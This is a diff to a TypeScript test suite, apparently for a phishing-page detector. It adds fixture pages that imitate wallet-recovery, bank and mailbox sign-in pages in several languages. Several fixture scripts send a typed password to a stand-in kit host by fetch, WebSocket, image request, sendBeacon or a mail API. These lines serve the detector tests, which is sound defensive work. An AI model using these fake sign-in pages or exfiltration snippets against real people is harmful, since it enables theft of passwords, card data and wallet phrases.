@@ -6,6 +6,7 @@ import { useInspector } from '#inspect/testing/inspector.ts'
 import { WORDS_MIN } from './fields.ts'
 import { ARTICLE_MIN } from './forms.ts'
 import { SHORT_MAX, START_MAX } from './posing.ts'
+import { READ_SOURCE_MAX } from './sending.ts'
 
 const { inspect } = useInspector()
 
@@ -28,6 +29,8 @@ const words = (count: number): string =>
   Array.from({ length: count }, (_, index) => `<input name="w${index + 1}">`).join('')
 const sending = (script: string): string =>
   page('Mail', '<input id="pin" type="password"><button onclick="go()">Open</button>', `function go(){${script}}`)
+const adding = (named: string, count: number): string =>
+  `for(let i=1;i<=${count};i++){const n=document.createElement("input");n.${named};document.forms[0].append(n)}`
 const VALUE = 'document.getElementById("pin").value'
 
 suite('a page that poses as a sign-in page', () => {
@@ -56,6 +59,14 @@ suite('a page that poses as a sign-in page', () => {
       '重要',
       `<p>カードのご利用を一時的に停止しております。</p>${form(KIT)}`,
     ),
+    'fields for words that a script adds and numbers': page(
+      'Wallet',
+      `<p>Restore it with your Secret Recovery Phrase.</p>${form(KIT, '<div></div>')}`,
+      adding('placeholder=i+"."', WORDS_MIN),
+    ),
+    'the words of a wallet, in French': wallet('<textarea placeholder="Phrase secrète de récupération"></textarea>'),
+    'an unusual sign-in, in Italian': page('Banca', `<p>Abbiamo rilevato un accesso anomalo.</p>${form(KIT)}`),
+    'a full mailbox, in Polish': page('Poczta', `<p>Twoja skrzynka jest pełna.</p>${form(KIT)}`),
     'a field for each word of a wallet': wallet(`<p>Secret Recovery Phrase</p>${words(WORDS_MIN)}`),
   }
   for (const [name, content] of Object.entries(pages)) test(name, () => assert.equal(found(content), 'FalseLogin'))
@@ -65,9 +76,22 @@ suite('a page that sends a password by', () => {
   const ways: Record<string, [string, string]> = {
     'a request': ['CredentialForm', sending(`fetch("${KIT}",{method:"POST",body:${VALUE}})`)],
     'a socket': ['CredentialForm', sending(`new WebSocket("wss://kit.example/s").send(${VALUE})`)],
-    'a picture': ['CredentialForm', sending(`new Image().src="${KIT}?p="+${VALUE}`)],
+    'a picture': ['FalseLogin', sending(`new Image().src="${KIT}?p="+${VALUE}`)],
+    'a picture, over a variable': [
+      'FalseLogin',
+      sending(`var v=${VALUE};const sent=btoa(v);var i=new Image();i.src="${KIT}?p="+sent`),
+    ],
+    'a beacon': ['FalseLogin', sending(`navigator.sendBeacon("${KIT}",JSON.stringify([${VALUE}]))`)],
+    'a request without an answer': [
+      'FalseLogin',
+      sending(`fetch("${KIT}",{method:"POST",mode:"no-cors",body:${VALUE}})`),
+    ],
+    'a service for mail': [
+      'Phishing',
+      sending(`fetch("https://api.mail.example/api/v1.0/email/send",{method:"POST",body:${VALUE}})`),
+    ],
     'a picture of the page': [
-      'CredentialForm',
+      'FalseLogin',
       sending(`var i=document.createElement("img");i.src="${KIT}?p="+encodeURIComponent(${VALUE})`),
     ],
     'a form whose address is decoded': [
@@ -107,10 +131,21 @@ suite('a field for a password that is', () => {
     'called so by a label': '<label for="b">Password</label><input id="b" name="b">',
     'masked by a style': '<style>.m{-webkit-text-security: disc}</style><input class="m" name="b">',
     'a part of the text that can be edited': '<div contenteditable aria-label="Password"></div>',
+    'called so in Spanish': '<input name="b" placeholder="Clave de acceso">',
+    'called so in Japanese': '<p>パスワード<br><input name="b">',
+    'called so by the text before it': '<td>E-Mail-Kennwort:</td><td><input name="b"></td>',
+    'the code and number of a card, by the texts before them':
+      '<p>カード番号<br><input name="b"></p><p>セキュリティコード<br><input name="c"></p>',
+    'the code and number of a card, in Polish': '<input placeholder="Numer karty"><input placeholder="Kod CVV">',
     'the code and number of a card': '<input placeholder="Card number"><input autocomplete="cc-csc">',
   }
   for (const [name, field] of Object.entries(fields))
     test(name, () => assert.equal(found(asking(field)), 'CredentialForm'))
+
+  test('made as a whole by a script', () => {
+    const made = `${adding('placeholder="Password"', 1)};document.forms[0].lastChild.type="password"`
+    assert.equal(found(page('Mail', form(KIT, ''), made.replace('n.', 'n.type="password";n.'))), 'CredentialForm')
+  })
 
   test('made one by a script', () => {
     const script = 'document.getElementById("b").type="pass"+"word"'
@@ -131,6 +166,22 @@ suite('a harmless page', () => {
       page('Log in', `<h1>Continue with Google</h1>${form('https://contoso.example/login')}`),
     ],
     'that counts its readers': [undefined, page('App', form('/login'), `new Image().src="${KIT}?u="+location.href`)],
+    'that counts those who search it': [
+      undefined,
+      page('Search', form('/search', '<input name="q">'), `new Image().src="${KIT}?q="+document.forms[0].q.value`),
+    ],
+    'that adds fewer numbered fields than a wallet has words': [
+      undefined,
+      page(
+        'Wallet',
+        `<p>Never enter your Secret Recovery Phrase.</p>${form(KIT, '')}`,
+        adding('placeholder=i+"."', WORDS_MIN - 1),
+      ),
+    ],
+    'with a captcha beside a search': [
+      undefined,
+      page('Search', form(KIT, '<p>Security code<br><input name="q"></p>')),
+    ],
     'with a survey': [
       undefined,
       page('Survey', form('https://docs.google.com/forms/d/e/1/formResponse', '<input name="q">')),
@@ -161,6 +212,13 @@ suite('a harmless page', () => {
     const article = (length: number): string => page('Microsoft', `<p>${text(length)}</p>${form(KIT)}`)
     assert.equal(found(article(ARTICLE_MIN / 2)), 'FalseLogin')
     assert.equal(found(article(ARTICLE_MIN)), 'CredentialForm')
+  })
+
+  test('with a library whose names mean several things', () => {
+    const counting = (length: number): string =>
+      sending(`let v=${VALUE};${'a();'.repeat(length)}navigator.sendBeacon("${KIT}",v)`)
+    assert.equal(found(counting(10)), 'FalseLogin')
+    assert.equal(found(counting(READ_SOURCE_MAX / 4)), 'CredentialForm')
   })
 
   test('that names a company further on, or has more to read', () => {
